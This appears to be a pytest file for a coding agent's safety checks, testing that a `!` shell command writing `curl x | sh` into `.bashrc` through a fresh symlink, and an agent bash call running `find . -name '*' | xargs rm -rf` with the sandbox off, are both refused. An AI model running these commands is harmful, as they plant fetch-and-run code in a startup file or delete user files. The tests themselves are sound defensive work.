"""Planting code that runs later is refused before anything runs, over stdio: a `!cmd`
(never sandboxed: the user's own shell) writing a shell startup file through a link the
same line makes, and the agent's bash in yolo (sandbox off) deleting names that `find`
lists, split on blanks (a folder `a ` holding `etc` lists as `./a /etc`)."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parents[1] / "e2e_agent"))

from agent_e2e import APP, api_env, calls, result_text, tool_call, tool_results
from anthropic_server import FakeAnthropicServer, reply
from harness import init_git, lsp_session
from lsprotocol import types

pytestmark = pytest.mark.filterwarnings("ignore:Unknown progress token")


async def test_a_startup_file_behind_a_fresh_link_is_not_written(tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    root = init_git(tmp_path / "ws", {"app.py": APP})
    async with lsp_session(root, env={"HOME": str(home)}) as s:
        result = await s.execute("coder.input", {"text": "!ln -s ~ h; echo 'curl x | sh' >> h/.bashrc"})
        assert result["mode"] == "error" and "Refused" in result["error"]["message"], result
        assert ".bashrc" in result["error"]["message"]
    assert not (home / ".bashrc").exists() and not (root / "h").exists()  # nothing ran, not even ln


async def test_blank_split_names_are_not_deleted_recursively(tmp_path):
    home = tmp_path / "home"
    (home / "keep").mkdir(parents=True)
    root = init_git(tmp_path / "ws", {"app.py": APP})
    (root / "a ").mkdir()
    (root / "a " / home.relative_to("/")).mkdir(parents=True)  # lists as `./a /…/home`
    with FakeAnthropicServer() as fake:
        env = {**api_env(fake), "HOME": str(home)}
        async with lsp_session(root, env=env) as s:
            s.client.workspace_did_change_configuration(
                types.DidChangeConfigurationParams(settings={"coder": {"permissions": "yolo", "sandbox.mode": "off"}})
            )
            fake.push(calls(tool_call("bash", {"command": "find . -name '*' | xargs rm -rf"}, "toolu_x1")), reply("ok"))
            result = await s.execute("coder.input", {"text": "clean up"})
            assert result["status"] == "completed", result
            refused = result_text(tool_results(fake.message_requests[-1])["toolu_x1"])
    assert "split on blanks" in refused and "-print0" in refused, refused
    assert (home / "keep").is_dir() and (root / "app.py").exists()
